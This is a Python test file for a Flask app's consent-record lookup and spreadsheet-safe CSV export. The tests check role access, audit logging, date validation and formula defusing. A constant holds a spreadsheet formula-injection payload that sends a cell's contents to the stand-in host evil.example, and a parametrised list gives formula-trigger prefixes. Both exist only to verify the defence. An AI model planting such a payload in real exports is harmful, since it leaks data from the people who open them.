"""Privacy officers look up consent records and export them as spreadsheet-safe CSV."""

from __future__ import annotations

import csv
import io
import typing as t
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa
import time_machine
from flask import Flask

from example_site import db
from flask_allcot_privacy.models import AuditEvent, ConsentRecord, User
from flask_allcot_privacy.staff.consent_records import safe_cell

from .helpers import CookieCheckingClient, field_error, log_in, soup
from .test_consent import decide

EVIL_AGENT = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.fixture
def officer(
    client: CookieCheckingClient, make_member: t.Callable[..., User]
) -> CookieCheckingClient:
    make_member("olivia", role="privacy_officer")
    log_in(client, "olivia")
    return client


def visitor_decides(app: Flask, action: str, when: datetime, agent: str = "Browser/1") -> str:
    """A separate visitor makes a decision at ``when``; returns their consent id."""
    visitor = t.cast(CookieCheckingClient, app.test_client())
    with time_machine.travel(when, tick=False):
        decide(visitor, action, headers={"User-Agent": agent})
    with app.app_context():
        return str(
            db.session.scalars(
                sa.select(ConsentRecord.consent_id).order_by(ConsentRecord.id.desc())
            ).first()
        )


def audit_actions(app: Flask) -> list[tuple[str, str]]:
    with app.app_context():
        rows = db.session.execute(sa.select(AuditEvent.action, AuditEvent.detail)).all()
        return [(row.action, row.detail) for row in rows]


def test_only_privacy_officers_reach_the_records(
    client: CookieCheckingClient, make_member: t.Callable[..., User]
) -> None:
    """P33: personal data only for staff whose job needs it."""
    assert client.get("/staff/consent").status_code == 302
    assert client.get("/staff/consent/export?since=2026-01-01&until=2026-01-02").status_code == 302
    make_member("sam", role="staff")
    log_in(client, "sam")
    assert client.get("/staff/consent").status_code == 403
    assert client.get("/staff/consent/export?since=2026-01-01&until=2026-01-02").status_code == 403


def test_lookup_by_consent_id_shows_every_decision_and_is_audited(
    app: Flask, officer: CookieCheckingClient
) -> None:
    consent_id = visitor_decides(app, "accept_all", datetime(2026, 3, 1, 9, 30, tzinfo=UTC))
    page = officer.get(f"/staff/consent?consent_id={consent_id}")
    assert page.status_code == 200
    assert page.headers["Cache-Control"] == "private, no-store"
    rows = soup(page).select(".privacy-consent-records tbody tr")
    assert len(rows) == 1
    text = rows[0].get_text(" ", strip=True)
    assert "2026-03-01 09:30:00" in text
    assert "banner" in text
    assert "127.0.0.0" in text, "only the anonymised IP is ever stored"
    assert ("consent.lookup", f"consent_id={consent_id} found=1") in audit_actions(app)


def test_lookup_of_an_unknown_or_malformed_id(officer: CookieCheckingClient) -> None:
    unknown = officer.get("/staff/consent?consent_id=0f8e1c2a-0000-4000-8000-000000000000")
    assert unknown.status_code == 200
    assert "No decision" in soup(unknown).select_one("[role=status]").get_text()
    bad = officer.get("/staff/consent?consent_id=%3Cscript%3E")
    assert bad.status_code == 400
    assert "consent id" in field_error(bad, "consent_id")
    assert soup(bad).select_one("#consent_id")["value"] == "<script>", "what was typed is kept"


def test_export_is_a_date_range_of_spreadsheet_safe_csv(
    app: Flask, officer: CookieCheckingClient
) -> None:
    inside = visitor_decides(
        app, "reject_all", datetime(2026, 3, 2, 23, 59, tzinfo=UTC), EVIL_AGENT
    )
    visitor_decides(app, "accept_all", datetime(2026, 3, 3, 0, 1, tzinfo=UTC))
    visitor_decides(app, "accept_all", datetime(2026, 2, 28, 12, 0, tzinfo=UTC))
    # Unbuffered, as a server sends it: the body is read below, then the response closed.
    response = officer.get(
        "/staff/consent/export?since=2026-03-01&until=2026-03-02", buffered=False
    )
    assert response.is_streamed, "rows are written as they are read, never all in memory"
    body = response.get_data(as_text=True)
    response.close()
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "consent-records-2026-03-01-to-2026-03-02.csv" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["consent_id"] for row in rows] == [inside]
    [row] = rows
    assert row["user_agent"] == "'" + EVIL_AGENT, "a formula is defused"
    assert row["granted"] == "necessary"
    assert row["refused"] == "preferences analytics marketing"
    assert row["source"] == "banner"
    assert row["ip_address"] == "127.0.0.0"
    assert ("consent.export", "since=2026-03-01 until=2026-03-02") in audit_actions(app)


@pytest.mark.parametrize(
    ("query", "field"),
    [("since=2026-03-02&until=2026-03-01", "until"), ("since=yesterday&until=2026-03-01", "since")],
)
def test_export_with_bad_dates_gets_the_form_again(
    officer: CookieCheckingClient, query: str, field: str
) -> None:
    response = officer.get(f"/staff/consent/export?{query}")
    assert response.status_code == 400
    assert field_error(response, field)


def test_export_to_the_last_possible_day_has_no_end(
    app: Flask, officer: CookieCheckingClient
) -> None:
    """``until=9999-12-31`` (the largest date) means "no end", not an overflow and a 500."""
    recent = visitor_decides(app, "accept_all", datetime(2026, 3, 2, 12, 0, tzinfo=UTC))
    response = officer.get("/staff/consent/export?since=0001-01-01&until=9999-12-31")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [row["consent_id"] for row in rows] == [recent]
    assert ("consent.export", "since=0001-01-01 until=9999-12-31") in audit_actions(app)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1", "'+33 1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n-1", "'\n-1"),
        ("\tMozilla", "'\tMozilla"),
        # Spreadsheets skip leading blanks and read full-width signs as their ASCII forms.
        (" =1+1", "' =1+1"),
        ("\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"),
        ("\u3000+1", "'\u3000+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("\ufe661+1", "'\ufe661+1"),
        ("a=1", "a=1"),
        ("   ", "   "),
        ("Mozilla/5.0", "Mozilla/5.0"),
        (None, ""),
    ],
)
def test_safe_cell(value: str | None, expected: str) -> None:
    assert safe_cell(value) == expected


def test_every_link_of_the_staff_menu_opens_its_page(
    app: Flask, client: CookieCheckingClient, make_member: t.Callable[..., User]
) -> None:
    """The staff navigation links only to pages that open (the consent export answered
    400 with two "This field is required." when opened from it)."""
    make_member("boss", role="admin")
    log_in(client, "boss")
    home = soup(client.get("/staff/"))
    links = [str(a["href"]) for a in home.select("nav a[href^='/staff']")]
    assert "/staff/consent" in links
    for href in links:
        page = client.get(href)
        assert page.status_code == 200, href
        assert not soup(page).select(".privacy-error"), f"{href} opens with errors"


def test_the_export_opened_without_dates_shows_its_form(officer: CookieCheckingClient) -> None:
    page = officer.get("/staff/consent/export")
    assert page.status_code == 200
    assert page.mimetype == "text/html"
    form = soup(page).select_one("form[action$='/staff/consent/export']")
    assert form is not None
    assert form.select_one("input[name=since]") is not None
    assert not soup(page).select(".privacy-error")
